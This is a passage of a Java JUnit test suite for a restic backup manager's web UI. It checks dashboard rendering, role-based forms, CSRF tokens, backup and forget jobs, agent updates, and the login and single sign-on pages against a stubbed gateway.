package io.resticmanager.ui;

import com.fasterxml.jackson.databind.JsonNode;
import io.helidon.http.HeaderNames;
import io.helidon.http.Method;
import io.helidon.webserver.WebServer;
import io.helidon.webserver.http.HttpRouting;
import io.helidon.webserver.testing.junit5.ServerTest;
import io.helidon.webserver.testing.junit5.SetUpRoute;
import io.resticmanager.kit.InternalAuth;
import io.resticmanager.proto.Json;
import io.resticmanager.ui.UiClient.Page;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static io.resticmanager.ui.Fixtures.DB;
import static io.resticmanager.ui.Fixtures.HOSTS;
import static io.resticmanager.ui.Fixtures.JOB;
import static io.resticmanager.ui.Fixtures.NEW_HOST;
import static io.resticmanager.ui.Fixtures.OLD;
import static io.resticmanager.ui.Fixtures.REPO;
import static io.resticmanager.ui.Fixtures.SCHEDULE;
import static io.resticmanager.ui.Fixtures.WEB;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

@ServerTest
class UiRoutesTest {
    static final String TOKEN = "test-internal-token";
    static final String COOKIE = "rm_session=sess-123";
    static final String CSRF = "csrf-abc";
    static final StubGateway GATEWAY = StubGateway.start();

    private final UiClient ui;

    UiRoutesTest(WebServer server) {
        this.ui = new UiClient(server, TOKEN, CSRF, COOKIE, "alice");
    }

    @SetUpRoute
    static void routing(HttpRouting.Builder routing) {
        // Strict templates: a variable no view model has fails the render instead of printing nothing.
        UiMain.routing(routing, InternalAuth.create(TOKEN), GATEWAY.url(), new Templates(true));
    }

    @AfterAll
    static void stopGateway() {
        GATEWAY.close();
    }

    @BeforeEach
    void fleet() {
        Fixtures.fleet(GATEWAY)
                .on("GET", "/api/jobs", 200, Fixtures.JOBS)
                .on("GET", "/api/jobs/" + JOB, 200, Fixtures.JOB_DONE)
                .on("GET", "/api/jobs/" + JOB + "/logs", 200, Fixtures.LOGS);
    }

    private Page get(String path, String role, String... headers) {
        return ui.request(Method.GET, path, role, null, headers);
    }

    private Page post(String path, String role, Map<String, String> fields) {
        StringBuilder form = new StringBuilder();
        fields.forEach((k, v) -> form.append(form.isEmpty() ? "" : "&").append(k).append('=')
                .append(URLEncoder.encode(v, StandardCharsets.UTF_8)));
        return ui.request(Method.POST, path, role, form.toString());
    }

    private static Map<String, String> form(String... kv) {
        Map<String, String> map = new LinkedHashMap<>();
        map.put("_csrf", CSRF);
        for (int i = 0; i + 1 < kv.length; i += 2) {
            map.put(kv[i], kv[i + 1]);
        }
        return map;
    }

    private static int count(String haystack, String needle) {
        return haystack.split(Pattern.quote(needle), -1).length - 1;
    }

    /** The text inside the element with this id (nested tags stripped, whitespace collapsed). */
    private static String text(String html, String id) {
        Matcher open = Pattern.compile("<(\\w+)[^>]*\\sid=\"" + Pattern.quote(id) + "\"[^>]*>").matcher(html);
        if (!open.find()) {
            return null;
        }
        String tag = open.group(1);
        Matcher tags = Pattern.compile("<(/?)" + tag + "\\b[^>]*>").matcher(html);
        int depth = 1;
        int from = open.end();
        tags.region(from, html.length());
        while (tags.find()) {
            depth += tags.group(1).isEmpty() ? 1 : -1;
            if (depth == 0) {
                return html.substring(from, tags.start()).replaceAll("<[^>]+>", " ").replaceAll("\\s+", " ").trim();
            }
        }
        return null;
    }

    @Test
    void dashboardShowsEveryHostWithStatusLabelsAndCounts() {
        Page page = get("/", "viewer");

        assertThat(page.status(), is(200));
        assertThat(count(page.body(), "class=\"host-card "), is(3));
        assertThat(page.body(), containsString("data-host-id=\"" + WEB + "\""));
        assertThat(page.body(), containsString("data-host-id=\"" + OLD + "\""));
        // Colour-blind safe: each status carries words, not just a colour.
        assertThat(page.body(), containsString("<span class=\"status-label\">Online</span>"));
        assertThat(page.body(), containsString("<span class=\"status-label\">Offline</span>"));
        assertThat(page.body(), containsString("<span class=\"status-label\">Disabled</span>"));
        assertThat(page.body(), containsString("<span class=\"status-label\">Failed</span>"));
        assertThat(text(page.body(), "count-hosts"), is("Hosts 3"));
        assertThat(text(page.body(), "count-online"), is("● Online 1"));
        assertThat(text(page.body(), "count-failing"), is("✗ Failing 1"));
        assertThat(page.body(), containsString("+1.2 GiB"));
        assertThat(page.body(), containsString(">nas<"));
        assertThat(page.body(), containsString("None assigned"));
        // The user's identity and role are in the navigation.
        assertThat(text(page.body(), "nav-username"), is("alice"));
        assertThat(text(page.body(), "nav-role"), is("viewer"));
        assertThat(page.body(), not(containsString("nav-add-host")));
    }

    @Test
    void apiCallsCarryTheBrowsersCookieAndCsrfToken() {
        get("/", "viewer");

        StubGateway.Seen hosts = GATEWAY.seen("GET", "/api/hosts").getFirst();
        assertThat(hosts.cookie(), is(COOKIE));
        assertThat(hosts.csrf(), is(CSRF));
    }

    @Test
    void aDashboardCardSaysHowManyRepositoriesAndHowOldTheOtherCopyIs() {
        String web = Fixtures.WEB_HOST.substring(0, Fixtures.WEB_HOST.lastIndexOf('}'))
                + ",\"repo_count\":2,\"secondary_snapshot_at\":\"2026-11-26T08:00:00Z\"}";
        GATEWAY.on("GET", "/api/hosts", 200, "{\"items\":[" + web + "]}");
        Page page = get("/", "viewer");
        assertThat(page.status(), is(200));
        assertThat(page.body(), containsString("· 2 repositories, other copy "));
    }

    @Test
    void dashboardFiltersBySearchStatusAndTagThroughThePagedApi() {
        GATEWAY.on("GET", "/api/hosts?limit=50&status=failing", 200, "{\"items\":[{\"id\":\"" + DB
                + "\",\"name\":\"db-1\",\"status\":\"offline\",\"tags\":[\"prod\"],\"repo_id\":null,"
                + "\"last_backup\":{\"job_id\":\"j-2\",\"status\":\"failed\",\"finished_at\":\"2026-11-26T08:00:00Z\"}}],"
                + "\"next_cursor\":null}");
        Page failing = get("/?status=failing", "viewer");
        assertThat(count(failing.body(), "class=\"host-card "), is(1));
        assertThat(failing.body(), containsString("data-host-id=\"" + DB + "\""));
        assertThat(failing.body(), containsString("Showing 1 matching of 3 hosts"));
        // The poll keeps the filter, so the refresh does not undo it.
        assertThat(failing.body(), containsString("hx-get=\"/?status=failing\""));

        // search, tag and the page's cursor go to the API as they are; the counts come from the summary
        get("/?q=we%26b&tag=web&cursor=abc_-1", "viewer");
        StubGateway.Seen asked = GATEWAY.seen("GET", "/api/hosts").getLast();
        assertThat(asked.params().get("limit"), is("50"));
        assertThat(asked.params().get("q"), is("we%26b"));
        assertThat(asked.params().get("tag"), is("web"));
        assertThat(asked.params().get("cursor"), is("abc_-1"));
        Page web = get("/?tag=web", "viewer");
        assertThat(web.body(), containsString("<option value=\"web\" selected>web</option>"));
        assertThat(text(web.body(), "count-hosts"), is("Hosts 3"));
    }

    @Test
    void aBigFleetIsPagedWithLinksThatKeepTheFilter() {
        String hosts = Fixtures.HOSTS.strip();
        GATEWAY.on("GET", "/api/hosts", 200, hosts.substring(0, hosts.lastIndexOf("]}"))
                + "],\"next_cursor\":\"bmV4dA\"}");
        Page first = get("/?tag=prod", "viewer");
        assertThat(first.body(), containsString("id=\"pager-next\" href=\"/?tag=prod&amp;cursor=bmV4dA\""));
        assertThat(first.body(), not(containsString("pager-first")));
        Page second = get("/?tag=prod&cursor=bmV4dA", "viewer");
        assertThat(second.body(), containsString("id=\"pager-first\" href=\"/?tag=prod\""));
        // the poll refreshes this page, not the first
        assertThat(second.body(), containsString("hx-get=\"/?tag=prod&amp;cursor=bmV4dA\""));
    }

    @Test
    void htmxPartialRequestGetsTheFragmentAndOtherRequestsTheFullPage() {
        Page fragment = get("/", "viewer", "HX-Request", "true");
        assertThat(fragment.body(), startsWith("<section id=\"fleet\""));
        assertThat(fragment.body(), not(containsString("<html")));
        assertThat(fragment.body(), containsString("hx-trigger=\"every 5s\""));
        assertThat(fragment.header("Vary"), containsString("HX-Request"));

        Page full = get("/", "viewer");
        assertThat(full.body(), startsWith("<!DOCTYPE html>"));
        assertThat(full.header("Vary"), containsString("HX-Request"));

        // A boosted link wants the whole page, even though htmx sends HX-Request too.
        Page boosted = get("/", "viewer", "HX-Request", "true", "HX-Boosted", "true");
        assertThat(boosted.body(), startsWith("<!DOCTYPE html>"));

        Page tab = get("/hosts/" + WEB + "/jobs", "viewer", "HX-Request", "true", "HX-Target", "host-tabs");
        assertThat(tab.body(), startsWith("<section id=\"host-tabs\""));
        assertThat(tab.body(), containsString("class=\"job-row\""));
    }

    @Test
    void viewerSeesNoActionsOperatorSeesRunFormsAdminSeesSettings() {
        for (String path : List.of("/hosts/" + WEB, "/hosts/" + WEB + "/jobs", "/hosts/" + WEB + "/actions")) {
            Page viewer = get(path, "viewer");
            assertThat(path, viewer.body(), not(containsString("<form id=\"run-")));
            assertThat(path, viewer.body(), not(containsString("tab-actions")));
            assertThat(path, viewer.body(), not(containsString("/actions\" method")));
        }
        assertThat(get("/hosts/" + WEB + "/actions", "viewer").status(), is(403));

        Page operator = get("/hosts/" + WEB + "/actions", "operator");
        assertThat(operator.status(), is(200));
        for (String id : List.of("run-backup-form", "run-forget-form", "run-prune-form", "run-check-form",
                                 "run-unlock-form")) {
            assertThat(id, operator.body(), containsString("id=\"" + id + "\""));
        }
        assertThat(operator.body(), containsString("id=\"tab-actions\""));
        assertThat(operator.body(), not(containsString("host-settings-form")));
        assertThat(operator.body(), not(containsString("assign-repo-form")));

        Page admin = get("/hosts/" + WEB + "/actions", "admin");
        assertThat(admin.body(), containsString("id=\"host-settings-form\""));
        assertThat(admin.body(), containsString("id=\"assign-repo-form\""));
        assertThat(admin.body(), containsString("<option value=\"" + REPO + "\" selected>nas — sftp:backup@nas:/srv/restic</option>"));
        assertThat(admin.body(), containsString("id=\"disable-host-button\""));
    }

    @Test
    void anAdminUpdatesTheAgentAndFollowsItUntilItIsBackWithTheNewVersion() {
        Page admin = get("/hosts/" + WEB + "/actions", "admin");
        assertThat(text(admin.body(), "action-agent-update"), containsString("Version 0.1.0."));
        assertThat(admin.body(), containsString("action=\"/hosts/" + WEB + "/agent-update\""));
        assertThat(get("/hosts/" + WEB + "/actions", "operator").body(), not(containsString("agent-update-form")));

        GATEWAY.on("POST", "/api/hosts/" + WEB + "/update", 202,
                   "{\"host_id\":\"" + WEB + "\",\"status\":\"started\",\"from_version\":\"0.1.0\"}");
        Page res = post("/hosts/" + WEB + "/agent-update", "admin", form());
        assertThat(res.body(), res.status(), is(303));
        assertThat(res.header("Location"), is("/hosts/" + WEB + "/agent-update?from=0.1.0"));

        // still 0.1.0: the progress polls
        Page waiting = get("/hosts/" + WEB + "/agent-update?from=0.1.0", "admin", "HX-Request", "true");
        assertThat(waiting.body(), containsString("hx-trigger=\"every 2s\""));
        assertThat(text(waiting.body(), "agent-update-waiting"), containsString("from 0.1.0"));
        // back online on 0.1.1: done, the polling stops
        GATEWAY.on("GET", "/api/hosts/" + WEB, 200, Fixtures.WEB_HOST.replace("\"0.1.0\"", "\"0.1.1\""));
        try {
            Page done = get("/hosts/" + WEB + "/agent-update?from=0.1.0", "admin", "HX-Request", "true");
            assertThat(text(done.body(), "agent-update-done"), is("✓ Agent updated: 0.1.0 → 0.1.1 , online again."));
            assertThat(done.body(), not(containsString("hx-trigger")));
            Page whole = get("/hosts/" + WEB + "/agent-update?from=0.1.0", "admin");
            assertThat(whole.body(), containsString("<h1>Update agent · web-1</h1>"));
        } finally {
            GATEWAY.on("GET", "/api/hosts/" + WEB, 200, Fixtures.WEB_HOST);
        }
    }

    @Test
    void updateAllListsEachHostsOutcome() {
        GATEWAY.on("POST", "/api/hosts/update", 202, "{\"started\":1,\"refused\":1,\"items\":["
                + "{\"host_id\":\"" + WEB + "\",\"status\":\"started\",\"from_version\":\"0.1.0\"},"
                + "{\"host_id\":\"" + DB + "\",\"status\":\"refused\",\"error\":\"update_unavailable\","
                + "\"reason\":\"not installed from its package\"}]}");
        Page res = post("/versions/agent-update", "admin", form());
        assertThat(res.body(), res.status(), is(200));
        assertThat(text(res.body(), "agent-update-summary"), containsString("1 started the update, 1 could not"));
        assertThat(res.body(), containsString("<a href=\"/hosts/" + WEB + "/agent-update?from=0.1.0\">"));
        assertThat(res.body(), containsString("not updated (not installed from its package)"));
    }

    @Test
    void anAgentThatCannotUpdateShowsWhy() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/update", 409, "{\"status\":409,\"title\":\"Conflict\","
                + "\"detail\":\"host cannot update its agent now: busy: 1 job(s) running\"}");
        Page res = post("/hosts/" + WEB + "/agent-update", "admin", form());
        assertThat(res.status(), is(409));
        assertThat(res.body(), containsString("busy: 1 job(s) running"));
        assertThat(res.body(), not(containsString("hx-trigger=\"every 2s\"")));
    }

    @Test
    void everyFormCarriesTheCsrfToken() {
        Page admin = get("/hosts/" + WEB + "/actions", "admin");
        int forms = count(admin.body(), "<form ");
        assertThat(forms > 8, is(true));
        assertThat(count(admin.body(), "name=\"_csrf\" value=\"" + CSRF + "\""), is(forms));
        assertThat(admin.body(), containsString("hx-headers='{\"X-CSRF-Token\":\"" + CSRF + "\"}'"));
    }

    @Test
    void runBackupPostsTheJobAndRedirectsToTheJobPage() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");

        Page res = post("/hosts/" + WEB + "/actions", "operator", form(
                "action", "backup", "paths", "/etc\r\n\r\n /home \r\n", "excludes", "*.tmp", "tags", "manual, web",
                "limit_upload_kib", "512"));

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/jobs/" + JOB));
        StubGateway.Seen call = GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").getFirst();
        JsonNode body = Http.tree(call.body());
        assertThat(body.path("kind").asText(), is("backup"));
        assertThat(body.path("paths").toString(), is("[\"/etc\",\"/home\"]"));
        assertThat(body.path("excludes").toString(), is("[\"*.tmp\"]"));
        assertThat(body.path("tags").toString(), is("[\"manual\",\"web\"]"));
        assertThat(body.path("limit_upload_kib").asInt(), is(512));
        assertThat(call.csrf(), is(CSRF));
    }

    @Test
    void theVssBoxAsksForAWindowsFileSystemSnapshotOnRunNowAndInSchedules() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}")
                .on("POST", "/api/schedules", 201, "{\"id\":\"" + SCHEDULE + "\"}")
                .on("PATCH", "/api/schedules/" + SCHEDULE, 200, "{}")
                .on("GET", "/api/schedules", 200, """
                        {"items":[{"id":"%s","host_id":"%s","name":"office","cron":"0 2 * * *","timezone":"UTC",
                          "kind":"backup","paths":["C:\\\\Users"],"excludes":[],"tags":[],"use_fs_snapshot":true,
                          "enabled":true,"next_run_at":"2026-11-27T02:00:00Z","last_run":null}]}"""
                        .formatted(SCHEDULE, WEB));
        String label = "Windows: snapshot open files with VSS (--use-fs-snapshot)";
        Page actions = get("/hosts/" + WEB + "/actions", "operator");
        assertThat(actions.body(), containsString("id=\"backup-vss\" name=\"use_fs_snapshot\" type=\"checkbox\">"));
        assertThat(actions.body(), containsString(label));
        post("/hosts/" + WEB + "/actions", "operator", form("action", "backup", "paths", "C:\\Users",
                                                             "use_fs_snapshot", "on"));
        JsonNode run = lastBody("POST", "/api/hosts/" + WEB + "/jobs");
        assertThat(run.path("use_fs_snapshot").asBoolean(), is(true));
        assertThat(run.path("paths").toString(), is("[\"C:\\\\Users\"]"));
        // unticked: not sent at all on run-now
        post("/hosts/" + WEB + "/actions", "operator", form("action", "backup", "paths", "/etc"));
        assertThat(lastBody("POST", "/api/hosts/" + WEB + "/jobs").has("use_fs_snapshot"), is(false));

        post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "C:\\Users",
                "use_fs_snapshot", "on"));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["C:\\\\Users"],
                 "use_fs_snapshot":true}""".formatted(WEB))));

        Page list = get("/hosts/" + WEB + "/schedules", "operator");
        assertThat(list.body(), containsString("C:\\Users · VSS"));
        assertThat(list.body(), containsString(label));
        Page edit = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "operator");
        String form = edit.body().substring(edit.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(form, containsString("id=\"schedule-vss\" name=\"use_fs_snapshot\" type=\"checkbox\" checked>"));
        // unticking it in the edit form turns it off (a PATCH that left it out would keep it)
        post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "cron_preset", "0 2 * * *",
                "timezone", "UTC", "paths", "C:\\Users"));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("use_fs_snapshot").isBoolean(), is(true));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("use_fs_snapshot").asBoolean(), is(false));
    }

    @Test
    void aRestoreDrillRunsFromTheHostPageAndItsResultShowsInTheHeader() {
        // operators drill on the host itself; only admins may pick another host to restore on
        Page operator = get("/hosts/" + WEB + "/actions", "operator");
        assertThat(operator.body(), containsString("id=\"run-drill-form\""));
        assertThat(operator.body(), not(containsString("id=\"drill-target\"")));
        Page admin = get("/hosts/" + WEB + "/actions", "admin");
        assertThat(text(admin.body(), "drill-target"), containsString("db-1"));
        assertThat(text(admin.body(), "drill-target"), not(containsString("web-1")));

        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");
        Page res = post("/hosts/" + WEB + "/actions", "admin", form("action", "drill", "sample_files", "12",
                                                                      "max_mib", "64", "target_host_id", DB));
        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/jobs/" + JOB));
        JsonNode body = Http.tree(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").getLast().body());
        assertThat(body.path("kind").asText(), is("drill"));
        assertThat(body.path("sample_files").asInt(), is(12));
        assertThat(body.path("max_bytes").asLong(), is(64L << 20));
        assertThat(body.path("target_host_id").asText(), is(DB));

        int calls = GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").size();
        Page bad = post("/hosts/" + WEB + "/actions", "operator", form("action", "drill", "sample_files", "lots"));
        assertThat(bad.status(), is(422));
        assertThat(text(bad.body(), "action-drill"), containsString("Files to sample"));
        assertThat(bad.body(), containsString("value=\"lots\""));
        assertThat(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").size(), is(calls));

        Page none = get("/hosts/" + WEB, "viewer");
        assertThat(text(none.body(), "host-last-drill"), containsString("No drill yet"));
        String drilled = Fixtures.WEB_HOST.substring(0, Fixtures.WEB_HOST.lastIndexOf('}')) + """
                ,"last_drill":{"job_id":"%s","status":"failed","finished_at":"2026-11-26T11:00:00Z",
                 "snapshot_id":"a1b2c3d4e5f6a7b8c9d0"}}""".formatted(JOB);
        GATEWAY.on("GET", "/api/hosts/" + WEB, 200, drilled);
        String page = get("/hosts/" + WEB, "viewer").body();
        assertThat(text(page, "host-last-drill"), containsString("Failed"));
        assertThat(text(page, "host-last-drill"), containsString("snapshot a1b2c3d4"));
        assertThat(page, containsString("<a href=\"/jobs/" + JOB + "\" id=\"host-last-drill-link\">view drill</a>"));
    }

    @Test
    void theRpoViewShowsRestorableAsOfAndAFailedDrillBesideIt() {
        GATEWAY.on("GET", "/api/alerts/rpo", 200, """
                {"items":[{"host_id":"%s","last_good_at":"2026-11-26T09:00:00Z","target_s":172800,"age_s":10800,
                  "status":"green","restorable_as_of":"2026-11-25T03:00:00Z",
                  "last_drill":{"job_id":"%s","status":"failed","finished_at":"2026-11-26T11:00:00Z"}},
                 {"host_id":"%s","last_good_at":"2026-11-26T08:00:00Z","target_s":86400,"age_s":72000,
                  "status":"amber","restorable_as_of":null,"last_drill":null}],"at":"2026-11-26T12:00:00Z"}"""
                .formatted(WEB, JOB, DB));
        Page page = get("/rpo", "viewer");
        assertThat(page.body(), containsString("<th scope=\"col\">Restorable as of</th>"));
        String web = rowOf(page.body(), "rpo-row rpo-green", WEB);
        assertThat(web, containsString("<td class=\"rpo-restorable\"><time datetime=\"2026-11-25T03:00:00Z\""));
        assertThat(web, containsString("class=\"rpo-drill-failed\" href=\"/jobs/" + JOB + "\""));
        String db = rowOf(page.body(), "rpo-row rpo-amber", DB);
        assertThat(db, containsString("no drill passed"));
        assertThat(db, not(containsString("rpo-drill-failed")));
    }

    @Test
    void aHostWithTwoRepositoriesListsBothAndOffersCopyLinkAndUnlink() {
        String offsite = "77777777-0000-4000-8000-000000000007";
        String host = Fixtures.WEB_HOST.substring(0, Fixtures.WEB_HOST.lastIndexOf('}')) + """
                ,"repos":[{"repo_id":"%s","name":"local-nas","role":"primary","primary":true,
                  "last_snapshot_at":"2026-11-26T09:00:00Z","snapshot_count":12},
                 {"repo_id":"%s","name":"b2-offsite","role":"off-site","primary":false,"last_snapshot_at":null,
                  "snapshot_count":0}]}""".formatted(Fixtures.REPO, offsite);
        GATEWAY.on("GET", "/api/hosts/" + WEB, 200, host);
        Page page = get("/hosts/" + WEB + "/actions", "admin");
        assertThat(page.status(), is(200));
        assertThat(page.body(), containsString("id=\"host-repos\""));
        assertThat(page.body(), containsString("b2-offsite</strong> <span class=\"tag\">off-site</span>"));
        assertThat(page.body(), containsString("12 snapshots"));
        // the off-site repository holds none of the host's snapshots: visibly behind
        assertThat(page.body(), containsString("id=\"repo-behind-" + offsite + "\""));
        assertThat(page.body(), containsString("id=\"run-copy-form\""));
        assertThat(page.body(), containsString("<option value=\"" + offsite + "\">b2-offsite (off-site)</option>"));
        assertThat(page.body(), containsString("id=\"link-repo-form\""));
        assertThat(page.body(), containsString("id=\"unlink-repo-" + offsite + "\""));

        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");
        Page copy = post("/hosts/" + WEB + "/actions", "operator", form("action", "copy", "repo_id", offsite));
        assertThat(copy.status(), is(303));
        JsonNode body = Http.tree(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").getLast().body());
        assertThat(body.path("kind").asText(), is("copy"));
        assertThat(body.path("repo_id").asText(), is(offsite));

        GATEWAY.on("POST", "/api/hosts/" + WEB + "/repos", 201, "{}");
        Page link = post("/hosts/" + WEB + "/actions", "admin", form("action", "repo-link", "repo_id", offsite,
                                                                     "role", "off-site"));
        assertThat(link.status(), is(303));
        JsonNode linked = Http.tree(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/repos").getLast().body());
        assertThat(linked.path("repo_id").asText(), is(offsite));
        assertThat(linked.path("role").asText(), is("off-site"));
    }

    @Test
    void apiProblemIsShownNextToTheFormWithTheInputKept() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 409,
                   "{\"type\":\"about:blank\",\"title\":\"Conflict\",\"status\":409,\"detail\":\"host web-1 is offline; the job was not queued\"}");

        Page res = post("/hosts/" + WEB + "/actions", "operator", form("action", "backup", "paths", "/srv/data"));

        assertThat(res.status(), is(409));
        String backupForm = res.body().substring(res.body().indexOf("id=\"run-backup-form\""),
                                                 res.body().indexOf("id=\"action-forget\""));
        assertThat(backupForm, containsString("class=\"problem\""));
        assertThat(backupForm, containsString("host web-1 is offline; the job was not queued"));
        assertThat(backupForm, containsString(">/srv/data</textarea>"));
        assertThat(res.body(), not(containsString("Exception")));
    }

    @Test
    void invalidInputIsCaughtBeforeCallingTheApi() {
        Page res = post("/hosts/" + WEB + "/actions", "operator", form("action", "backup", "paths", "  "));

        assertRefusedBeforeTheApi(res, "Enter at least one path");
    }

    @Test
    void forgetAsksForConfirmationBeforeDeletingAnything() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");

        Page confirm = post("/hosts/" + WEB + "/actions", "operator",
                            form("action", "forget", "keep_last", "5", "keep_daily", "7", "prune", "on"));
        assertThat(confirm.status(), is(200));
        assertThat(confirm.body(), containsString("id=\"confirm-forget\""));
        assertThat(confirm.body(), containsString("Keep the last 5 snapshots"));
        assertThat(confirm.body(), containsString("<input type=\"hidden\" name=\"confirm\" value=\"yes\">"));
        assertThat(confirm.body(), containsString("id=\"confirm-preview\""));
        assertThat(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs"), empty());

        // the preview runs restic forget --dry-run: a job that deletes nothing
        Page preview = post("/hosts/" + WEB + "/actions", "operator", form("action", "forget", "confirm", "yes",
                "dry_run", "yes", "keep_last", "5", "keep_daily", "7", "prune", "on"));
        assertThat(preview.status(), is(303));
        JsonNode dry = Http.tree(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").getFirst().body());
        assertThat(dry.path("dry_run").asBoolean(), is(true));

        Page done = post("/hosts/" + WEB + "/actions", "operator",
                         form("action", "forget", "confirm", "yes", "keep_last", "5", "keep_daily", "7", "prune", "on"));
        assertThat(done.status(), is(303));
        JsonNode body = Http.tree(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs").getLast().body());
        assertThat(body.path("kind").asText(), is("forget"));
        assertThat(body.has("dry_run"), is(false));
        assertThat(body.path("policy").toString(), is("{\"keep_last\":5,\"keep_daily\":7,\"prune\":true}"));
    }

    @Test
    void forgetWithoutAnyKeepRuleIsRefused() {
        Page res = post("/hosts/" + WEB + "/actions", "operator", form("action", "forget", "confirm", "yes"));

        assertRefusedBeforeTheApi(res, "at least one keep rule");
    }

    /** A host action refused with 422 and the reason on the page, and no job asked of the API. */
    private static void assertRefusedBeforeTheApi(Page res, String reason) {
        assertThat(res.status(), is(422));
        assertThat(res.body(), containsString(reason));
        assertThat(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs"), empty());
    }

    @Test
    void adminAssignsTheRepository() {
        GATEWAY.on("PATCH", "/api/hosts/" + WEB, 200, Fixtures.WEB_HOST);

        Page res = post("/hosts/" + WEB + "/actions", "admin", form("action", "repo", "repo_id", REPO));

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/hosts/" + WEB + "/actions?saved=repo"));
        assertThat(GATEWAY.seen("PATCH", "/api/hosts/" + WEB).getFirst().body(), is("{\"repo_id\":\"" + REPO + "\"}"));
        assertThat(get(res.header("Location"), "admin").body(), containsString("Repository assigned."));
    }

    @Test
    void loginPassesTheSessionCookieThroughAndRedirectsHome() {
        String cookie = "rm_session=new-session; Path=/; HttpOnly; SameSite=Lax";
        GATEWAY.on("POST", "/api/login", 200, "{\"user_id\":\"u-1\",\"role\":\"admin\",\"csrf_token\":\"x\"}", cookie);

        Page res = post("/login", null, form("username", "alice", "password", "correct horse"));

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/"));
        assertThat(res.headers().get("Set-Cookie"), hasItem(cookie));
        assertThat(GATEWAY.seen("POST", "/api/login").getFirst().body(),
                   is("{\"username\":\"alice\",\"password\":\"correct horse\"}"));
    }

    @Test
    void failedLoginShowsAReadableMessageAndKeepsOnlyTheUserName() {
        GATEWAY.on("POST", "/api/login", 401, "{\"title\":\"Unauthorized\",\"status\":401,\"detail\":\"bad credentials\"}");

        Page res = post("/login", null, form("username", "alice", "password", "wrong-pass-123"));

        assertThat(res.status(), is(401));
        assertThat(res.body(), containsString("id=\"login-form\""));
        assertThat(res.body(), containsString("class=\"problem\""));
        assertThat(res.body(), containsString("The user name or password is not correct."));
        assertThat(res.body(), containsString("value=\"alice\""));
        assertThat(res.body(), not(containsString("wrong-pass-123")));
        assertThat(res.headers().get("Set-Cookie"), is((Object) null));
    }

    @Test
    void logoutRevokesTheSessionAndClearsTheCookie() {
        GATEWAY.on("POST", "/api/logout", 204, "");

        Page res = post("/logout", "viewer", form());

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), startsWith("/login"));
        assertThat(GATEWAY.seen("POST", "/api/logout"), hasSize(1));
        assertThat(res.header("Set-Cookie"), startsWith("rm_session=; Path=/; Max-Age=0"));
    }

    @Test
    void theLoginPageOffersSingleSignOnWhenTheGatewayDoes() {
        Page plain = get("/login", null);
        assertThat(plain.body(), not(containsString("id=\"sso-login\"")));

        GATEWAY.on("GET", "/api/auth/providers", 200, "{\"local_login\":\"all\",\"oidc\":{\"name\":\"Keycloak\","
                + "\"login_url\":\"/auth/oidc/login\",\"end_session_url\":null}}");
        Page page = get("/login", null);
        assertThat(page.status(), is(200));
        assertThat(page.body(), containsString("<a class=\"button\" id=\"sso-login\" href=\"/auth/oidc/login\""));
        assertThat(page.body(), containsString("Sign in with Keycloak"));
        // local login is still open to all: the form is there, not folded away
        assertThat(page.body(), containsString("id=\"login-form\""));
        assertThat(page.body(), not(containsString("id=\"local-login\"")));
    }

    @Test
    void withLocalLoginSwitchedOffThePasswordFormIsFoldedAwayForBreakGlass() {
        GATEWAY.on("GET", "/api/auth/providers", 200, "{\"local_login\":\"break-glass\",\"oidc\":{\"name\":"
                + "\"Authentik\",\"login_url\":\"/auth/oidc/login\"}}");
        Page page = get("/login", null);
        assertThat(page.body(), containsString("<details id=\"local-login\"><summary>Local break-glass account"));
        assertThat(page.body(), containsString("Sign in with Authentik"));
    }

    @Test
    void aRefusedSingleSignOnSaysWhyInWords() {
        GATEWAY.on("GET", "/api/auth/providers", 200, "{\"local_login\":\"all\",\"oidc\":{\"name\":\"Authelia\","
                + "\"login_url\":\"/auth/oidc/login\"}}");
        Page noRole = get("/login?sso_error=no-role", null);
